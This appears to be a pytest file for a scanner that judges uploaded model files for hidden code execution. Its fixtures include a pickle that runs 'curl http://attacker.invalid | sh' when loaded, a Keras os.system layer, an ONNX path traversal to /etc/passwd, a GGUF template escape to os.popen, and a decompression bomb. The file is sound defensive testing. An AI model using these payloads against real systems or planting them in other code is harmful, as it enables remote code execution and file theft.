"""POST /api/v1/ai/analyze: a verdict for every model file, hostile ones included, without
ever loading it (pickle, PyTorch, Keras, ONNX, GGUF, safetensors)."""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from tavo_platform.analysis.model_files import analyze_model_file
from tavo_platform.artifacts import InspectionLimits
from tavo_platform.settings import Settings
from tavo_platform.store.migrate import upgrade

from tests.support.inprocess import InProcessApi, auth, running_api

ANALYZE = "/api/v1/ai/analyze"


class _Runs:
    def __init__(self, target: object, *args: object) -> None:
        self.target, self.args = target, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return (self.target, self.args)


def evil_pickle() -> bytes:
    return pickle.dumps(_Runs(os.system, "curl http://attacker.invalid | sh"), protocol=2)


def torch_zip(payload: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", payload)
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def varint(number: int) -> bytes:
    out = bytearray()
    while True:
        byte, number = number & 0x7F, number >> 7
        out.append(byte | (0x80 if number else 0))
        if not number:
            return bytes(out)


def field(number: int, payload: bytes) -> bytes:  # length-delimited
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def onnx_model(location: str, domain: str) -> bytes:
    external = field(1, b"location") + field(2, location.encode())
    tensor = field(8, b"weights") + field(13, external) + varint(14 << 3) + varint(1)
    node = field(1, b"x") + field(2, b"y") + field(4, b"Fancy") + field(7, domain.encode())
    graph = field(1, node) + field(2, b"g") + field(5, tensor)
    opset = field(1, b"") + varint(2 << 3) + varint(17)
    return varint(1 << 3) + varint(8) + field(2, b"exporter") + field(7, graph) + field(8, opset)


def gguf(entries: list[tuple[str, int, bytes]], count: int | None = None) -> bytes:
    def text(value: str) -> bytes:
        raw = value.encode()
        return struct.pack("<Q", len(raw)) + raw

    body = b"".join(text(key) + struct.pack("<I", kind) + value for key, kind, value in entries)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(entries) if count is None else count) + body


def gguf_string(value: str) -> bytes:
    raw = value.encode()
    return struct.pack("<Q", len(raw)) + raw


def keras_zip(config: dict[str, Any]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.3.3"}))
        archive.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 64)
    return buffer.getvalue()


def safetensors(header: dict[str, Any], data: bytes = b"\0" * 16) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def risk_ids(verdict: dict[str, Any]) -> set[str]:
    return {risk["id"] for risk in verdict["risks"]}


# --- verdicts -----------------------------------------------------------------------------


def test_pickle_that_runs_a_command() -> None:
    verdict = analyze_model_file(evil_pickle(), "model.pkl")

    assert verdict["safe"] is False
    assert verdict["risks"][0]["id"] == "model-pickle-code-execution"
    assert verdict["risks"][0]["severity"] == "CRITICAL"
    assert any("system" in e for e in verdict["risks"][0]["evidence"])
    analysis = verdict["analysis"]
    assert analysis["model_type"] == "pickle" and analysis["executes_code_on_load"]
    assert analysis["security_score"] <= 40
    assert any("safetensors" in r for r in verdict["recommendations"])


def test_plain_weights_are_safe() -> None:
    weights = pickle.dumps({"layer.weight": [0.1, 0.2], "layer.bias": [0.0]}, protocol=4)
    tensors = safetensors({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}})

    for data, name, kind in (
        (weights, "w.pkl", "pickle"),
        (tensors, "w.safetensors", "safetensors"),
    ):
        verdict = analyze_model_file(data, name)
        assert verdict["safe"] is True, verdict
        assert verdict["risks"] == []
        assert verdict["analysis"]["model_type"] == kind
        assert verdict["analysis"]["security_score"] == 100
        assert verdict["confidence"] >= 0.9


def test_pytorch_zip_with_a_payload() -> None:
    verdict = analyze_model_file(torch_zip(evil_pickle()), "model.pt")
    assert verdict["safe"] is False
    assert verdict["analysis"]["model_type"] == "torch-zip"
    assert "model-pickle-code-execution" in risk_ids(verdict)


def test_keras_lambda_layers_and_system_modules() -> None:
    config = {
        "module": "keras",
        "class_name": "Functional",
        "config": {
            "layers": [
                {"module": "keras.layers", "class_name": "Dense", "config": {"units": 4}},
                {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "config": {
                        "name": "backdoor",
                        "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA="}},
                    },
                },
                {"module": "os", "class_name": "system", "config": {"command": "id"}},
                {"module": "acme_layers", "class_name": "Fancy", "config": {}},
            ]
        },
    }
    verdict = analyze_model_file(keras_zip(config), "model.keras")

    assert verdict["analysis"]["model_type"] == "keras"
    assert risk_ids(verdict) >= {
        "keras-lambda-layer",
        "keras-dangerous-module",
        "keras-custom-objects",
    }
    assert verdict["risks"][0]["severity"] == "CRITICAL"  # worst first
    legacy = (
        b"\x89HDF\r\n\x1a\n"
        + b"\0" * 200
        + json.dumps(
            {
                "class_name": "Sequential",
                "config": {
                    "layers": [
                        {
                            "class_name": "Lambda",
                            "config": {"name": "l", "function": ["4wEA", None, None]},
                        }
                    ]
                },
            }
        ).encode()
        + b"\0" * 100
    )
    h5 = analyze_model_file(legacy, "model.h5")
    assert h5["analysis"]["model_type"] == "keras-h5" and not h5["safe"]
    assert risk_ids(h5) == {"keras-lambda-layer"}


def test_onnx_external_data_and_custom_operators() -> None:
    verdict = analyze_model_file(onnx_model("../../../etc/passwd", "com.evil.ops"), "m.onnx")

    assert verdict["analysis"]["model_type"] == "onnx"
    assert risk_ids(verdict) == {"onnx-external-data-path-traversal", "onnx-custom-operator-domain"}
    assert verdict["analysis"]["details"]["operators"] == 1
    clean = analyze_model_file(onnx_model("weights.bin", ""), "m.onnx")
    assert clean["safe"] is True and clean["risks"] == []


def test_gguf_chat_template_that_reaches_python_internals() -> None:
    hostile = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    benign = "{% for m in messages %}<|{{ m.role }}|>{{ m.content }}{% endfor %}"

    bad = analyze_model_file(
        gguf(
            [
                ("general.architecture", 8, gguf_string("llama")),
                ("tokenizer.chat_template", 8, gguf_string(hostile)),
            ]
        ),
        "model.gguf",
    )
    good = analyze_model_file(
        gguf([("tokenizer.chat_template", 8, gguf_string(benign))]), "model.gguf"
    )

    assert risk_ids(bad) == {"gguf-chat-template-code"} and not bad["safe"]
    assert good["safe"] is True and good["analysis"]["model_type"] == "gguf"


HOSTILE = {
    "random bytes as a pickle": os.urandom(4096),
    "truncated payload": evil_pickle()[: len(evil_pickle()) // 2 + 8],
    "empty file": b"",
    "only a protocol header": b"\x80\x05",
    "deep nesting": b"\x80\x04" + b"(" * 20_000 + b"]" * 20_000 + b".",
    "zip with a broken directory": b"PK\x03\x04" + os.urandom(300) + b"PK\x05\x06" + b"\xff" * 18,
    "gguf claiming 2**63 entries": gguf([], count=2**63),
    "gguf string longer than the file": b"GGUF"
    + struct.pack("<IQQ", 3, 0, 1)
    + struct.pack("<Q", 2**40)
    + b"key",
    "gguf unknown value type": gguf([("general.name", 99, b"")]),
    "onnx garbage": b"\x08\x07" + os.urandom(2000),
    "onnx length past the end": varint(1 << 3) + varint(7) + varint(7 << 3 | 2) + varint(10**9),
    "safetensors header past the end": struct.pack("<Q", 10**6) + b"{" + b" " * 20,
    "h5 with broken json": b"\x89HDF\r\n\x1a\n" + b'{"class_name": [[[[' * 50,
    "compressed garbage": zlib.compress(os.urandom(1000))[:50],
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_files_get_a_verdict(name: str) -> None:
    suffix = ".onnx" if "onnx" in name else ".gguf" if "gguf" in name else ".pkl"
    verdict = analyze_model_file(HOSTILE[name], "upload" + suffix)

    assert set(verdict) == {"safe", "risks", "recommendations", "confidence", "analysis"}
    assert isinstance(verdict["safe"], bool)
    assert 0 <= verdict["confidence"] <= 1
    assert 0 <= verdict["analysis"]["security_score"] <= 100
    json.dumps(verdict)  # plain data, whatever came in
    if name == "truncated payload":
        assert not verdict["safe"]  # the import comes before the damage


def test_a_decompression_bomb_is_not_called_safe() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02" + b"N" * (8 * 1024 * 1024))
    # The server's limit is 256 MiB; a small one keeps the test fast.
    limits = InspectionLimits(max_decompressed_bytes=1024 * 1024)
    verdict = analyze_model_file(buffer.getvalue(), "bomb.pt", limits)

    assert verdict["safe"] is False
    assert verdict["analysis"]["complete"] is False
    assert "model-incomplete-inspection" in risk_ids(verdict)
    assert verdict["confidence"] < 0.5


# --- over HTTP ----------------------------------------------------------------------------


def test_upload_raw_and_multipart(api: InProcessApi, org_key: str) -> None:
    raw = api.client.post(
        ANALYZE,
        params={"filename": "model.pkl"},
        content=evil_pickle(),
        headers={**auth(org_key), "Content-Type": "application/octet-stream"},
    )
    form = api.client.post(
        ANALYZE, files={"file": ("weights.pt", torch_zip(evil_pickle()))}, headers=auth(org_key)
    )
    empty = api.client.post(ANALYZE, content=b"", headers=auth(org_key))
    anonymous = api.client.post(ANALYZE, content=evil_pickle())

    assert raw.status_code == 200, raw.text
    assert raw.json()["safe"] is False
    assert raw.json()["analysis"]["file_name"] == "model.pkl"
    assert form.status_code == 200, form.text
    assert form.json()["analysis"]["model_type"] == "torch-zip"
    assert empty.status_code == 422
    assert anonymous.status_code == 401


def test_upload_size_limit(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path / "data", scan_concurrency=0, ai_max_model_bytes=1000)
    settings.data_dir.mkdir(parents=True)
    upgrade(settings.resolved_database_url)
    with running_api(settings) as api:
        key = api.create_key()
        small = api.client.post(ANALYZE, content=b"\x80\x04N.", headers=auth(key))
        large = api.client.post(ANALYZE, content=b"\0" * 5000, headers=auth(key))

    assert small.status_code == 200
    assert large.status_code == 413
    assert large.json()["error"]["code"] == "PAYLOAD_TOO_LARGE"
